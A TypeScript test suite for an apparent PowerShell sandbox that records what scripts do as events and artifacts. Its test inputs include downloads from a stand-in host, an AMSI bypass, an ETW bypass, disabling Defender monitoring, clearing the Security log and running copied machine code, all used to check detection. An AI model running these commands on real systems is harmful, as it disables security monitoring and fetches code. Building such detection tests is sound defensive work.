/** What scripts do to the virtual Windows, as events and artifacts. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { outputOf, reportOf } from '../powershell.fixture.ts'

const events = (code: string, category: string) =>
  reportOf(code)
    .events.filter((one) => one.category === category)
    .map((one) => one.fields)

test('what is downloaded is kept, and where to', () => {
  const { artifacts, events: all } = reportOf(
    "(New-Object Net.WebClient).DownloadFile('http://a.example/x.exe', 'C:\\t\\y.exe')",
  )
  assert.deepEqual(
    artifacts.map(({ origin, name }) => [origin, name]),
    [
      ['downloaded', 'x.exe'],
      ['dropped', 'C:\\t\\y.exe'],
    ],
  )
  assert.ok(all.some((one) => one.category === 'proxy' && one.fields['c-uri'] === 'http://a.example/x.exe'))
})

test('an answer that is an error is one for the script', () => {
  const internet = { answer: () => ({ status: 404, body: new Uint8Array() }) }
  const report = reportOf("try { iwr http://a.example/ } catch { 'none' }", { internet })
  assert.equal(report.output, 'none\n')
})

test('decoded programs come back as artifacts', () => {
  const bytes = Buffer.from('MZ inert bytes').toString('base64')
  const { artifacts } = reportOf(
    `$b = [Convert]::FromBase64String('${bytes}'); [IO.File]::WriteAllBytes('C:\\p.exe', $b)`,
  )
  assert.deepEqual(
    artifacts.map((one) => one.origin),
    ['decoded', 'dropped'],
  )
})

test('every way to blind Windows has its event', () => {
  const kinds = (code: string) => events(code, 'evasion').map((one) => one['Kind'])
  assert.ok(
    kinds(
      "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
    ).includes('amsi-bypass'),
  )
  assert.ok(kinds("$x = 'EtwEventWrite'").includes('etw-bypass'))
  assert.ok(kinds('Set-MpPreference -DisableRealtimeMonitoring $true').includes('defender-settings'))
  assert.ok(kinds('Clear-EventLog Security').includes('log-cleared'))
  assert.deepEqual(kinds("Write-Host 'nothing here'"), [])
})

test('an obfuscated name is told in plain spelling in a layer of its own', () => {
  const { layers } = reportOf("(New-Object ('Net.We'+'bClient')).('Downl'+'oadString')('http'+'://a.example/q')")
  const last = layers.at(-1)
  assert.equal(last?.source, 'deobfuscated')
  assert.match(last?.code ?? '', /New-Object Net\.WebClient/)
  assert.match(last?.code ?? '', /DownloadString\('http:\/\/a\.example\/q'\)/)
  const plain = reportOf("(New-Object Net.WebClient).DownloadString('http://a.example/q')")
  assert.deepEqual(
    plain.layers.map((one) => one.source),
    ['submitted'],
  )
})

test('every layer is a script block event', () => {
  const texts = events("iex '1+1'; [scriptblock]::Create('2').Invoke(); & ([scriptblock]'3')", 'ps_script').map(
    (one) => one['ScriptBlockText'],
  )
  assert.deepEqual(texts.slice(1), ['1+1', '2', '3'])
})

test('machine code that is copied and run', () => {
  const code = `$c = [byte[]](1..32)
$p = [Runtime.InteropServices.Marshal]::AllocHGlobal(32)
[Runtime.InteropServices.Marshal]::Copy($c, 0, $p, 32)
[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p, [Action]).Invoke()`
  const report = reportOf(code)
  const memory = report.artifacts.find((one) => one.name === 'memory.bin')
  assert.deepEqual(
    [...(memory?.bytes ?? [])],
    Array.from({ length: 32 }, (_, at) => at + 1),
  )
  assert.ok(report.events.some((one) => one.category === 'create_remote_thread'))
})

test('C# source is kept, and what it does besides imports is a gap', () => {
  const report = reportOf(
    'Add-Type "public class A { public static int F(int x) { return x; } }"; [A]::F(3) | Out-Null',
  )
  assert.deepEqual(
    report.artifacts.map((one) => one.name),
    ['source.cs'],
  )
  assert.deepEqual(
    report.gaps.map((one) => one.why),
    ['code of a .NET assembly is not emulated'],
  )
})

test('the registry is read as it was written', () => {
  assert.equal(
    outputOf(
      "$k='HKCU:\\Software\\X'; New-Item $k -Force | Out-Null; sp $k a 1; sp $k b 2; (gi $k).Property -join ','; (gp $k).B; Test-Path $k; rp $k a; (gi $k).Property",
    ),
    'a,b\n2\nTrue\nb',
  )
})

test('known answers of cryptography', () => {
  const hash = (name: string) =>
    `-join ([Security.Cryptography.${name}]::Create().ComputeHash([Text.Encoding]::ASCII.GetBytes('abc')) | % { $_.ToString('x2') })`
  assert.equal(outputOf(hash('MD5')), '900150983cd24fb0d6963f7d28e17f72')
  assert.equal(outputOf(hash('SHA256')), 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad')
  const round = `$a = [Security.Cryptography.Aes]::Create(); $k = $a.Key; $v = $a.IV
$e = $a.CreateEncryptor().TransformFinalBlock([byte[]](1,2,3), 0, 3)
$b = New-Object Security.Cryptography.RijndaelManaged; $b.Key = $k; $b.IV = $v
$b.CreateDecryptor().TransformFinalBlock($e, 0, $e.Length) -join ','`
  assert.equal(outputOf(round), '1,2,3')
  assert.equal(
    outputOf(
      "$s = ConvertTo-SecureString 'text' -AsPlainText -Force; $b = ConvertFrom-SecureString $s -Key (1..16); [Net.NetworkCredential]::new('', (ConvertTo-SecureString $b -Key (1..16))).Password",
    ),
    'text',
  )
})

test('packed and unpacked again', () => {
  const code = `$m = New-Object IO.MemoryStream; $g = New-Object IO.Compression.GZipStream($m, [IO.Compression.CompressionMode]::Compress)
$w = New-Object IO.StreamWriter($g); $w.Write('round trip'); $w.Close(); $g.Close()
(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,$m.ToArray())), [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`
  assert.equal(outputOf(code), 'round trip')
})

test('chance follows the seed', () => {
  const code = '1..5 | % { Get-Random -Maximum 1000 }; [guid]::NewGuid().Guid'
  const run = (seed: number) => reportOf(code, { seed }).output
  assert.equal(run(3), run(3))
  assert.notEqual(run(3), run(4))
})

test('a name nobody modelled is noted once and the script goes on', () => {
  const report = reportOf("Get-Unheard -Of it | % { $_.Any.Thing() }; Get-Unheard; 'on'")
  assert.deepEqual(report.unmodelled, ['Get-Unheard'])
  assert.match(report.output, /on\n$/)
})
